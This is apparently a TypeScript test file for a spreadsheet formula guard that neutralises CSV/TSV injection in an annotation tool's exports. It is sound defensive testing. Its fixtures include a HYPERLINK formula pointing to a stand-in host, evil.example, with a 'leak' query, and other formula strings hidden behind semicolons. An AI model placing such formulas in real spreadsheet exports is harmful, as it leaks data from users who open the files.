import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultLinkTypes } from '../model/label-schema.js';
import type { WorkspaceSnapshot } from '../model/workspace.js';
import { CROSS_DOCUMENT_LINKS_FILE, parseCrossDocumentLinks } from './cross-document-links.js';
import { EXPORT_FORMAT_IDS, exportWorkspace } from './export-formats.js';
import { collectExportedFiles } from './exported-file.js';
import { guardSpreadsheetCell, unguardSpreadsheetCell } from './spreadsheet-formula-guard.js';
import { buildFixtureSnapshot, FIXTURE_TIME, snapshotOfSeededSpans } from './test-fixtures.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")';

/** Files a spreadsheet opens as delimited text: every .csv and .tsv an export writes. */
const isDelimited = (path: string) => /\.(csv|tsv)$/.test(path);

/**
 * Every cell a spreadsheet could see in a delimited file, whatever it splits on (comma, semicolon,
 * tab, line breaks), each both as written and without the opening quotes a CSV reader strips.
 */
function possibleCells(text: string): string[] {
  return text.split(/[,;\t\r\n]/).flatMap((cell) => [cell, cell.replace(/^"+/, '')]);
}

/** The fixture with a formula in every note and a title that hides one behind a semicolon. */
function snapshotWithFormulas(): WorkspaceSnapshot {
  const snapshot = buildFixtureSnapshot();
  snapshot.documents[0]!.meta.title = 'Budget;=1+1 and -2';
  for (const document of snapshot.documents) for (const annotation of document.annotations) annotation.note = FORMULA;
  for (const link of snapshot.links) link.note = FORMULA;
  return snapshot;
}

/** One text whose coreference mentions start with formula characters (for mentions.tsv). */
function snapshotWithFormulaTokens(): WorkspaceSnapshot {
  const text = '=SUM(A1) was what @mayor wrote, -3 or +4 said others.';
  const snapshot = snapshotOfSeededSpans(text, [
    [0, 8],
    [19, 25],
    [33, 35],
  ]);
  const [a, b, c] = snapshot.documents[0]!.annotations;
  const end = (annotationId: string) => ({ documentId: snapshot.documents[0]!.meta.id, annotationId });
  const link = (id: string, from: string, to: string) => ({
    id,
    typeId: 'same',
    source: end(from),
    target: end(to),
    note: FORMULA,
    author: '@editor',
    annotator: 'owner',
    createdAt: FIXTURE_TIME,
    updatedAt: FIXTURE_TIME,
  });
  snapshot.linkTypes = [...defaultLinkTypes];
  snapshot.links = [link('l-1', a!.id, b!.id), link('l-2', b!.id, c!.id)];
  return snapshot;
}

describe('spreadsheet formula guard', () => {
  it('puts a quote before every cell start a spreadsheet could run, whatever it splits on', () => {
    expect(guardSpreadsheetCell(FORMULA)).toBe(`'${FORMULA}`);
    expect(guardSpreadsheetCell('Budget;=1+1')).toBe("Budget;'=1+1");
    expect(guardSpreadsheetCell('a,-3\n@cmd\r\n+4\tx')).toBe("a,'-3\n'@cmd\r\n'+4\tx");
    expect(guardSpreadsheetCell('\t=x')).toBe("'\t'=x");
    expect(guardSpreadsheetCell("'quoted")).toBe("''quoted");
    expect(guardSpreadsheetCell('a\t"=cmd"')).toBe(`a\t'"=cmd"`);
    expect(guardSpreadsheetCell('plain text, @ no; - risk')).toBe('plain text, @ no; - risk');
  });

  it('is undone exactly, for any text (property)', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", ',', ';', '"', 'a', ' ', '😢') });
    fc.assert(
      fc.property(text, (value) => {
        const guarded = guardSpreadsheetCell(value);
        expect(unguardSpreadsheetCell(guarded)).toBe(value);
        expect(possibleCells(guarded).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves no cell a spreadsheet would run in any delimited file of any export: CSV tables, the links side files, mentions.tsv', () => {
    const delimited = new Set<string>();
    for (const format of EXPORT_FORMAT_IDS) {
      for (const snapshot of [snapshotWithFormulas(), snapshotWithFormulaTokens()]) {
        for (const [path, text] of collectExportedFiles(exportWorkspace(snapshot, format))) {
          if (!isDelimited(path)) continue;
          delimited.add(`${format}/${path}`);
          expect.soft(possibleCells(text).filter((cell) => /^[=+\-@]/.test(cell)), `${format}: ${path}`).toEqual([]);
        }
      }
    }
    expect([...delimited]).toEqual([
      'brat/cross-document-links.tsv',
      'csv/documents.csv',
      'csv/annotations.csv',
      'csv/links.csv',
      'labelstudio/cross-document-links.tsv',
      'doccano/cross-document-links.tsv',
      'conll-coref/mentions.tsv',
    ]);
  });

  it('the links side file reads back the exact notes, ids and ends our importer needs', () => {
    const snapshot = snapshotWithFormulas();
    for (const format of ['brat', 'labelstudio', 'doccano'] as const) {
      const tsv = collectExportedFiles(exportWorkspace(snapshot, format)).get(CROSS_DOCUMENT_LINKS_FILE)!;
      expect(tsv).toContain(`\t'${FORMULA}\n`);
      const read = parseCrossDocumentLinks(tsv, CROSS_DOCUMENT_LINKS_FILE);
      expect(read.ok && read.problems).toEqual([]);
      if (!read.ok) return;
      expect(read.value.length).toBeGreaterThan(0);
      for (const row of read.value) {
        expect(row.note).toBe(FORMULA);
        expect(snapshot.links.map((l) => l.id)).toContain(row.linkId);
      }
    }
  });
});
